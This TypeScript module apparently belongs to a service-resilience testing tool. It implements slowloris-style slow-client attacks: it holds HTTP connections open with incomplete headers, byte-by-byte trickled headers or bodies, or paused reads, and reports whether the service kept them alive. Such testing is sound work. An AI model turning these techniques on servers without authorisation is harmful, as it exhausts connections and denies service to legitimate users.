import { once } from "node:events";
import { connect } from "node:net";
import type { AttackRequest, Hold } from "../attacks/attack.ts";

/** How often a client that is slow on purpose sends another byte. */
const trickleMs = 1_000;

/**
 * Opens a connection and keeps it in one state for as long as the service lets it, at most until `ending`. Resolves to the status of
 * the answer if any came, and to whether the connection was still open at the end.
 */
export async function hold(
  url: string,
  { method = "GET", path, headers = {}, body = "" }: AttackRequest,
  state: Hold,
  localAddress: string,
  ending: AbortSignal,
): Promise<string> {
  const { hostname, port } = new URL(url);
  const socket = connect({ host: hostname, port: Number(port), localAddress });
  const closed = once(socket, "close", { signal: ending });
  let failure: string | undefined;
  let status: string | undefined;
  socket.on("error", (error: NodeJS.ErrnoException) => {
    failure = error.code ?? error.name;
  });
  socket.on("data", (chunk: Buffer) => {
    status ??= /^HTTP\/1\.1 (\d{3})/.exec(chunk.toString("latin1"))?.[1];
    if (state === "answer" && status === "200") socket.pause();
  });

  const lines = Object.entries({ host: hostname, ...headers }).map(
    ([name, value]) => `${name}: ${value}\r\n`,
  );
  const head = `${method} ${path} HTTP/1.1\r\n${lines.join("")}`;
  if (state === "headers") socket.write(`${head}x-slow: `);
  else if (state !== "connection") socket.write(`${head}\r\n`);
  if (state === "answer" || state === "stream") socket.write(body);
  const trickle = setInterval(() => {
    if ((state === "headers" || state === "body") && socket.writable) socket.write("1");
  }, trickleMs);

  await closed.catch(() => {});
  clearInterval(trickle);
  const wasHeld = !socket.destroyed;
  socket.destroy();
  return wasHeld ? `${status ?? "open"} held` : (status ?? failure ?? "closed");
}
